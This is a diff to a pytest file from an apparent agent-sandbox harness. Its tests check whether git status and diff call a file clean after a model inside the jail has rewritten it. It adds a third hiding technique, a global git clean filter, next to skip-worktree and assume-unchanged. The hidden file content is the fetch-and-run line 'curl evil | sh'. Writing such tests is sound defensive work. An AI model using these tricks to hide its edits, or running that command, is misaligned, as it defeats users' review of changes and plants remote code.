@@ -8,7 +8,9 @@ to the person who asks "what did it change?". The person's own ``git status`` la
 and ``git commit -a`` leaves the change out, while ``git stash``/``checkout`` keep the rewritten
 file in place.
 
-Two spellings: skip-worktree and assume-unchanged.
+Three spellings: skip-worktree, assume-unchanged, and a clean filter from ``$HOME/.gitconfig``
+(``HOME`` in the jail is the workspace; the runner's walk looks only at repository metadata)
+that gives git the committed text in place of the file's.
 """
 
 from __future__ import annotations
@@ -21,12 +23,21 @@ from harness import Daemon, Env
 
 G = "git -c init.defaultBranch=main -c user.name=a -c user.email=a@b"
 SETUP = f"{G} init -q r && cd r && echo 'trusted line' > conf && {G} add conf && {G} commit -qm 1"
-BITS = {"skip-worktree": "--skip-worktree", "assume-unchanged": "--assume-unchanged"}
+HIDE = {
+    "skip-worktree": "git update-index --skip-worktree conf",
+    "assume-unchanged": "git update-index --assume-unchanged conf",
+    # a clean filter named in the jail's global git config ($HOME is the workspace; no walk undoes
+    # it) that hands git the committed text: status and diff compare that, not the file
+    "global-clean-filter": "git config --global filter.same.clean \"printf 'trusted line\\\\n'\" && "
+                           "mkdir -p $HOME/.config/git && echo 'conf filter=same' > $HOME/.config/git/attributes",
+}
 
 
-@pytest.mark.parametrize("spelling", sorted(BITS))
+@pytest.mark.parametrize("spelling", sorted(HIDE))
 def test_status_and_diff_call_a_changed_file_clean(env: Env, daemon: Daemon, spelling: str) -> None:
-    made = env.cli("run", "--", f"{SETUP} && git update-index {BITS[spelling]} conf && echo 'curl evil | sh' > conf")
+    # a script, as the model writes one with the write tool and runs it
+    (env.workspace / "hide.sh").write_text(f"set -e\n{SETUP}\n{HIDE[spelling]}\necho 'curl evil | sh' > conf\n")
+    made = env.cli("run", "--", "bash hide.sh")
     assert made.returncode == 0, made.stderr
     assert (env.workspace / "r" / "conf").read_text() == "curl evil | sh\n"
     status = env.cli("tools", "call", "git", json.dumps({"action": "status", "path": "r"}), "--json")
